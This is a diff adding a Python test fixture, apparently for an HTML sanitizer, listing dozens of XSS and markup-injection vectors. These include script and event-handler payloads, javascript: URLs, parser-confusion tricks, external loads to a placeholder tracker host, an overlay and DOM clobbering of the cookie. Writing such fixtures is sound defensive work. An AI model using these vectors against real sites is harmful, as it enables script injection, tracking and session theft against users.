@@ -1,0 +1,78 @@
+"""Hostile markup of our own making: each would run, load or cover something if it were let through."""
+
+import itertools
+
+_SCRIPT = "top.fired=1"
+_HOST = "//tracker.example.test/x"
+
+_LOADERS = [
+    "<script>{s}</script>",
+    "<SCRIPT SRC={h}></SCRIPT>",
+    "<scr<script>ipt>{s}</scr</script>ipt>",
+    "<img src=x onerror={s}>",
+    "<img src=x oNeRrOr='{s}'>",
+    "<img/src=x/onerror={s}>",
+    '<img src="x` `<script>{s}</script>"` `>',
+    "<svg onload={s}>",
+    "<svg><script>{s}</script></svg>",
+    "<svg><animate onbegin={s} attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:{s}'><text>x</text></a></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>{s}</script>'></foreignObject></svg>",
+    "<svg><style><img src=x onerror={s}></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror={s}>",
+    "<math href='javascript:{s}'>x</math>",
+    "<iframe src='javascript:{s}'></iframe>",
+    "<iframe srcdoc='&lt;script&gt;{s}&lt;/script&gt;'></iframe>",
+    "<object data='javascript:{s}'></object>",
+    "<embed src='javascript:{s}'>",
+    "<a href='javascript:{s}'>x</a>",
+    "<a href='java\tscript:{s}'>x</a>",
+    "<a href=' &#14; javascript:{s}'>x</a>",
+    "<a href='&#106;avascript:{s}'>x</a>",
+    "<a href='vbscript:{s}'>x</a>",
+    "<a href='data:text/html,<script>{s}</script>'>x</a>",
+    "<a href='#' onclick='{s}' onmouseover='{s}'>x</a>",
+    "<form action='javascript:{s}'><button>x</button></form>",
+    "<button formaction='javascript:{s}'>x</button>",
+    "<input autofocus onfocus={s}>",
+    "<details open ontoggle={s}>x</details>",
+    "<video><source onerror={s}></video>",
+    "<audio src=x onerror={s}>",
+    "<body onload={s}>",
+    "<marquee onstart={s}>x</marquee>",
+    "<template><script>{s}</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror={s}>'>",
+    "<textarea></textarea><img src=x onerror={s}>",
+    "<title></title><script>{s}</script>",
+    "<!--><script>{s}</script>-->",
+    "<![CDATA[<script>{s}</script>]]>",
+    "<?xml-stylesheet href='javascript:{s}'?>",
+    "<meta http-equiv=refresh content='0;url=javascript:{s}'>",
+    "<base href='javascript:{s}//'>",
+    "<link rel=stylesheet href={h}>",
+    "<link rel=import href={h}>",
+    "<style>@import '{h}';</style>",
+    "<style>body{{background:url({h})}}</style>",
+    "<p style='background:url({h})'>x</p>",
+    "<p style='background-image:url(&quot;{h}&quot;)'>x</p>",
+    "<p style='behavior:url({h})'>x</p>",
+    "<p style='width:expression({s})'>x</p>",
+    "<p style='position:fixed;inset:0;z-index:9999'>covered</p>",
+    "<p style='color:red;/*</style><script>{s}</script>*/'>x</p>",
+    "<table background='{h}'><tr><td background='{h}'>x</td></tr></table>",
+    "<img src='{h}'>",
+    "<img srcset='{h} 1x' src=data:,>",
+    "<picture><source srcset='{h}'><img></picture>",
+    "<input type=image src='{h}'>",
+    "<video poster='{h}'></video>",
+    "<bgsound src='{h}'>",
+    "<svg><image href='{h}'/></svg>",
+    "<svg><filter><feImage href='{h}'/></filter></svg>",
+    "<a ping='{h}' href='https://shop.example.test'>x</a>",
+    "<div id=html><form id=document><input name=cookie></form></div>",
+]
+HTML = [vector.format(s=_SCRIPT, h=_HOST) for vector in _LOADERS]
+# Text that would become markup where somebody forgets to escape it.
+TEXT = [
+    f'{quote}><{tag} class="planted">{quote}' for quote, tag in itertools.product(["", '"', "'"], ["b", "img", "x-y"])
+]
